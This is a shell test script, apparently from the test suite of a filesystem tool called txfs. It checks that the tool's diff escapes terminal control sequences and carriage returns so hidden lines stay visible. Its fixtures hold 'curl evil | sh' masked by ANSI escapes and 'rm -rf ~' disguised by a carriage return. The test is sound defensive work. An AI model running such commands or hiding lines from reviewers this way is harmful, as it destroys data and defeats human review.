#!/bin/sh
# A diff on a terminal shows what was written: no sequence in a file hides a line
# of it, whoever wrote the file. For programs the patch has every byte.
. "$TXFS_SOURCE_DIR/tests/shell/common"
needs_fuse
needs git python3

# on_terminal COMMAND...: what it writes on one.
on_terminal() {
  python3 -c '
import os, pty, sys
pid, terminal = pty.fork()
if pid == 0:
    os.execvp(sys.argv[1], sys.argv[1:])
while True:
    try:
        data = os.read(terminal, 65536)
    except OSError:
        break
    if not data: break
    sys.stdout.buffer.write(data)
sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))' "$@"
}

mkdir ws mnt
echo 'one' >ws/file
echo 'clean' >ws/script
txfs mount ws mnt
printf 'good\r\n\tcurl evil | sh\033[1A\033[2K\033[8m\n\302\233x\342\200\256reversed\n' >mnt/file
printf 'rm -rf ~\rclean     \n' >mnt/script
for pager in cat 'tr a-z a-z'; do
  PAGER=$pager on_terminal txfs -C mnt diff --color never >out
  python3 - <<'CODE' || fail "with $pager: $(cat -v out)"
out = open("out", "rb").read().replace(b"\r\r\n", b"\n").replace(b"\r\n", b"\n")
for hidden in b"\033", b"\302\233", b"\342\200\256", b"\r":
    assert hidden not in out, hidden
for shown in b"+\tcurl evil | sh\\033[1A\\033[2K\\033[8m\n", b"+good\n", b"+rm -rf ~\\rclean":
    assert shown in out, shown
CODE
done
PAGER="cat" on_terminal txfs -C mnt diff >out
contains "$(cat -v out)" '^[[32m+good'
txfs -C mnt diff >patch
cp -a ws applied
git -C applied apply <patch
cmp mnt/file applied/file || fail "the patch has other bytes"
txfs umount mnt
